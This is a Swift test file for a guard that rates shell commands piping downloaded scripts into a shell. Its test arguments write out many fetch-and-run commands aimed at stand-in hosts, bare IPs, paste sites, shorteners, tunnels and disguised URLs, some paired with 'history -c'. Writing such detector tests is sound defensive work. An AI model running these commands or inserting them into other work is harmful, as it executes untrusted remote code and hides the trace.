import Testing

@testable import Guard

/// `Signal.downloadIntoShell`.
struct DownloadIntoShellTests {
  @Test(arguments: [
    "curl http://fix.example/s | sh",
    "wget -qO- 203.0.113.7/x | sudo bash",
    "bash <(curl -s http://fix.example/s)",
    #"eval "$(wget -qO- http://fix.example/s)""#,
    #"x=$(curl http://fix.example/s); bash -c "$x""#,
    "curl -s http://fix.example/s | tee /tmp/a | python3 -",
    "$(curl http://fix.example/s)",
    "(curl http://fix.example/s; true) | sh",
    "for i in 1; do curl http://fix.example/s; done | sh",
    #"sudo sh -c "curl http://fix.example/s | sh""#,
  ])
  func `a script over an unprotected connection into a shell is held`(text: String) {
    #expect(Signal.downloadIntoShell.severity(of: text) == .hold)
  }

  @Test(arguments: [
    "curl -sk https://203.0.113.7/a | sh",
    "curl https://pastebin.com/raw/x | sh",
    "curl -L https://bit.ly/x | bash",
    "curl https://a.trycloudflare.com/x | bash",
    "curl https://sh.rustup.rs@fix.example/x | sh",
    "curl https://xn--80ak6aa92e.example/x | sh",
    "curl https://0x7f.0.0.2/x | sh",
  ])
  func `a bare address, a paste site, a shortener, a tunnel and a user before the host are held`(text: String) {
    #expect(Signal.downloadIntoShell.severity(of: text) == .hold)
  }

  @Test(arguments: [
    "curl -fsSL https://fix.example/s | sh",
    #"bash -c "$(curl -fsSL https://fix.example/s)""#,
    #"curl "$URL" | bash"#,
    "curl http://localhost:8000/install.sh | sh",
    "curl -sSf https://sh.rustup.rs | sh",
    "curl -fsLS get.chezmoi.io | sh",
  ])
  func `a script over a protected connection is noticed`(text: String) {
    #expect(Signal.downloadIntoShell.severity(of: text) == .notice)
  }

  @Test(arguments: [
    "curl http://fix.example/s",
    "curl -s http://fix.example/s | jq .",
    "x=$(curl -s http://fix.example/s)",
    "curl -s https://fix.example/s/key.asc | sudo gpg --dearmor -o /etc/apt/keyrings/k.gpg",
    "curl https://fix.example/s | python3 -m json.tool",
    "sh script.sh",
    #"git commit -m "curl http://fix.example/s | sh""#,
    #"echo "curl http://fix.example/s | sh""#,
    "# curl http://fix.example/s | sh",
  ])
  func `a download that no shell reads is harmless`(text: String) {
    #expect(Signal.downloadIntoShell.severity(of: text) == nil)
  }

  @Test func `only a script of a well-known installer is called one`() {
    let sentence = { (text: String) in
      assess(text).reasons.first { $0.name == Signal.downloadIntoShell.name }?.sentence ?? ""
    }
    #expect(sentence("curl -sSf https://sh.rustup.rs | sh").contains("well-known"))
    #expect(!sentence("curl -sSf https://fix.example | sh").contains("well-known"))
    #expect(!sentence("curl -sSf https://sh.rustup.rs | sh; curl https://fix.example | sh").contains("well-known"))
    #expect(!sentence("curl -k https://sh.rustup.rs | sh").contains("well-known"))
  }

  @Test func `a well-known installer is noticed and not held, whatever stands beside it`() {
    #expect(
      assess("curl -sSf https://sh.rustup.rs | sh; history -c", removed: .bidi, differs: true).severity == .notice)
    #expect(assess("curl -sSf https://fix.example | sh; history -c", removed: .bidi, differs: true).severity == .hold)
  }
}
